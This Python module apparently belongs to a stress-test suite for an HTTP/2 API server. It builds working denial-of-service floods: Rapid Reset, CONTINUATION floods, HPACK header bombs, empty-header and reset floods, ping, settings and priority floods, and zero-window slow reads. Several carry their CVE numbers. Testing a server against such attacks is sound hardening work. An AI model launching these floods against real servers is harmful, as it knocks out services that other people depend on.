"""Attacks of `attack` by clients of HTTP/2: streams, headers, windows and frames, more than anybody needs."""

from __future__ import annotations

import json
import time
from collections import Counter
from collections.abc import Callable
from contextlib import ExitStack, suppress
from functools import partial

from scripts.torture.attacks.case import Case, Target
from scripts.torture.attacks.http2_client import (
    PADDED,
    PING,
    PRIORITY,
    RST_STREAM,
    WINDOW_UPDATE,
    Client,
    head,
    setting,
)
from understudy.apiserver.server.http2.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    SETTINGS,
    frame,
)

MAPS = "/api/v1/namespaces/default/configmaps"
SECONDS = 5.0  # that a flood lasts
AT_ONCE = 50  # streams of one part of a flood
CONNECTIONS, STREAMS = 5, 100
MIB = 1 << 20
Make = Callable[[Target, int], bytes]  # a part of a flood, from its number


def _flood(make: Make, target: Target, *, begin: Make = lambda target, part: b"", reads: bool = True) -> str:
    """Send the parts of a flood, on a new connection whenever the server has ended one.

    begin  what each connection begins with
    reads  whether the answers are read
    """
    parts, connections, ends = 0, 0, Counter[str]()
    late = time.monotonic() + SECONDS
    while time.monotonic() < late:
        with Client(target, reads=reads) as client:
            connections += 1
            client.send(begin(target, 0))
            part = 0
            while time.monotonic() < late and client.send(make(target, part)):
                part += 1
            parts += part
            ends[client.end()] += 1
    return f"{parts} parts on {connections} connections, {dict(ends)}"


def _streams(part: int) -> range:
    """Return the numbers of the streams of a part."""
    return range(1 + 2 * AT_ONCE * part, 1 + 2 * AT_ONCE * (part + 1), 2)


def _followed_by(kind: int, number: int) -> Make:
    """Return requests that are each followed by a frame with a number in it."""

    def make(target: Target, part: int) -> bytes:
        block, payload, ends = head(target, "GET", MAPS), number.to_bytes(4), END_HEADERS | END_STREAM
        return b"".join(
            frame(HEADERS, ends, stream, block) + frame(kind, 0, stream, payload) for stream in _streams(part)
        )

    return make


def _invalid(target: Target, part: int) -> bytes:
    """Return requests whose streams are reset, since they lack their path (CVE-2019-9514)."""
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x82\x87") for stream in _streams(part))


def _begun(target: Target, part: int) -> bytes:
    """Return the begin of headers."""
    return frame(HEADERS, 0, 1, head(target, "GET", "/healthz"))


def _continuations(payload: bytes) -> Make:
    """Return headers that do not end (CVE-2023-45288)."""
    return lambda target, part: frame(CONTINUATION, 0, 1, payload) * (8000 // (9 + len(payload)) + 1)


def _bomb(target: Target, part: int) -> bytes:
    """Return requests with a header of 4,000 bytes that a byte stands for, 8,000 times."""
    block = b"\x40\x01a\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 8000
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, head(target, "GET", "/healthz") + block)
        for stream in range(1 + 8 * part, 1 + 8 * (part + 1), 2)
    )


def _crumbs(target: Target, part: int) -> bytes:
    """Return requests with 7,900 headers of two bytes, each of one byte."""
    block = b"\x40\x01a\x01b" + b"\xbe" * 7900
    return b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, head(target, "GET", "/healthz") + block)
        for stream in range(1 + 8 * part, 1 + 8 * (part + 1), 2)
    )


def _nameless(target: Target, part: int) -> bytes:
    """Return requests with 1,000 headers that have neither name nor value (CVE-2019-9516)."""
    block = head(target, "GET", "/healthz") + b"\0\0\0" * 1000
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in _streams(part))


def _same(data: bytes) -> Make:
    """Return a flood of the same bytes."""
    return lambda target, part: data


def _post(target: Target, part: int) -> bytes:
    """Return the head of a request with a body."""
    return frame(HEADERS, END_HEADERS, 1, head(target, "POST", MAPS))


def _watches(target: Target, part: int) -> bytes:
    """Return a hundred watches."""
    block = head(target, "GET", f"{MAPS}?watch=true")
    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, block) for n in range(STREAMS))


def _changing_windows(target: Target, part: int) -> bytes:
    """Return settings that open and close the windows of all streams."""
    return (frame(SETTINGS, 0, 0, setting(4, 0)) + frame(SETTINGS, 0, 0, setting(4, 1 << 20))) * 100


def _store(target: Target) -> None:
    """Create objects of 1.6 MB."""
    body = {"data": {"k": "v" * 80_000}}
    target.send_all(
        [target.request("POST", MAPS, json.dumps({**body, "metadata": {"name": f"o{n}"}}).encode()) for n in range(100)]
    )


def _clear(target: Target) -> None:
    target.send("DELETE", MAPS)
    target.send("POST", "/understudy/reset")


def _unread(target: Target, settings: bytes = b"", room: int = 0) -> str:
    """Ask for lists of 1.6 MB on all streams, and read no more than the first bytes of them.

    room  bytes by which the windows grow again and again; nothing is read if 0
    """
    _store(target)
    block = head(target, "GET", MAPS)
    asked = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, block) for n in range(STREAMS))
    with ExitStack() as stack:
        clients = [stack.enter_context(Client(target, settings, reads=room > 0)) for _ in range(CONNECTIONS)]
        for client in clients:
            client.send(asked)
        late = time.monotonic() + SECONDS
        grown = 0
        while time.monotonic() < late:
            if room:
                grow = b"".join(frame(WINDOW_UPDATE, 0, 1 + 2 * n, room.to_bytes(4)) for n in range(STREAMS))
                grown += sum(client.send(grow + frame(WINDOW_UPDATE, 0, 0, MIB.to_bytes(4))) for client in clients)
            else:
                time.sleep(0.1)
        ends = Counter(client.end() for client in clients)
    _clear(target)
    return f"{CONNECTIONS * STREAMS} lists, windows grew {grown} times, {dict(ends)}"


def _slow_bodies(target: Target) -> str:
    """Send bodies of 256 KiB on all streams but for the last byte."""
    with ExitStack() as stack:
        clients = [stack.enter_context(Client(target)) for _ in range(CONNECTIONS)]
        sent = 0
        for client in clients:
            for stream in range(1, 2 * STREAMS, 2):
                client.send(frame(HEADERS, END_HEADERS, stream, head(target, "POST", MAPS)))
                sent += all(client.send(frame(DATA, 0, stream, b" " * 16_000)) for _ in range(16))
        time.sleep(SECONDS)
        ends = Counter(client.end() for client in clients)
    return f"{sent} bodies taken, {dict(ends)}"


def _slow_frames(target: Target) -> str:
    """Open connections that say nothing behind the first bytes of HTTP/2; say when the server has enough."""
    began = time.monotonic()
    with target.connect(protocol="h2") as connection, suppress(OSError):
        connection.settimeout(100)
        connection.sendall(b"PRI * HTTP/2.0\r\n")
        while connection.recv(1 << 16):
            pass
    return f"closed after {time.monotonic() - began:.0f} s"


def _plain(target: Target) -> str:
    """Speak HTTP/1.1 where HTTP/2 was agreed to."""
    ends = Counter[str]()
    for _ in range(200):
        with target.connect(protocol="h2") as connection, suppress(OSError):
            connection.sendall(target.request("GET", "/healthz"))
            try:
                while connection.recv(1 << 16):
                    pass
                ends["closed"] += 1
            except TimeoutError:
                ends["open"] += 1
    return str(dict(ends))


def _case(name: str, make: Make, begin: Make = lambda target, part: b"", *, reads: bool = True) -> Case:
    """Return a case that is a flood."""
    return Case(name, partial(_flood, make, begin=begin, reads=reads))


_PINGS = frame(PING, 0, 0, b"12345678") * 400
_SETTINGS = frame(SETTINGS, 0, 0, setting(4, 65_535)) * 400
_MANY_SETTINGS = frame(SETTINGS, 0, 0, b"".join(setting(4, n) for n in range(1, 2500)))
_TABLES = (frame(SETTINGS, 0, 0, setting(1, 0)) + frame(SETTINGS, 0, 0, setting(1, 4096))) * 200
_PRIORITIES = b"".join(frame(PRIORITY, 0, n, (n + 2).to_bytes(4) + b"\x10") for n in range(1, 1000, 2))
_UNKNOWN = frame(0xF0, 0, 0, b"12345678") * 400
_PADDING = frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255) * 30

CASES = (
    _case("h2: requests given up", _followed_by(RST_STREAM, 8)),  # CVE-2023-44487
    _case("h2: requests to reset", _followed_by(WINDOW_UPDATE, 0)),  # a window cannot grow by nothing (CVE-2025-8671)
    _case("h2: requests without a path", _invalid),
    _case("h2: resets that are not read", _invalid, reads=False),
    _case("h2: continuations", _continuations(b"\0\1a\1b" * 100), _begun),
    _case("h2: empty continuations", _continuations(b""), _begun),
    _case("h2: headers that unfold", _bomb),
    _case("h2: headers of one byte", _crumbs),
    _case("h2: headers without a name", _nameless),
    _case("h2: pings", _same(_PINGS)),
    _case("h2: pings that are not read", _same(_PINGS), reads=False),
    _case("h2: settings", _same(_SETTINGS)),
    _case("h2: settings that are not read", _same(_SETTINGS), reads=False),
    _case("h2: many settings at once", _same(_MANY_SETTINGS)),
    _case("h2: sizes of tables", _same(_TABLES)),
    _case("h2: windows of watches", _changing_windows, _watches),
    _case("h2: priorities", _same(_PRIORITIES)),
    _case("h2: unknown frames", _same(_UNKNOWN)),
    _case("h2: growing windows", _same(frame(WINDOW_UPDATE, 0, 0, (1).to_bytes(4)) * 600)),
    _case("h2: empty parts of a body", _same(frame(DATA, 0, 1) * 800), _post),
    _case("h2: padding", _same(_PADDING), _post),
    Case("h2: lists that are not read", _unread, own=("--control",)),
    Case("h2: windows of 0", partial(_unread, settings=setting(4, 0)), own=("--control",)),
    Case("h2: windows of one byte", partial(_unread, settings=setting(4, 0), room=1), own=("--control",)),
    Case("h2: bodies that do not end", _slow_bodies),
    Case("h2: a silent preface", _slow_frames),
    Case("h2: another protocol", _plain),
)
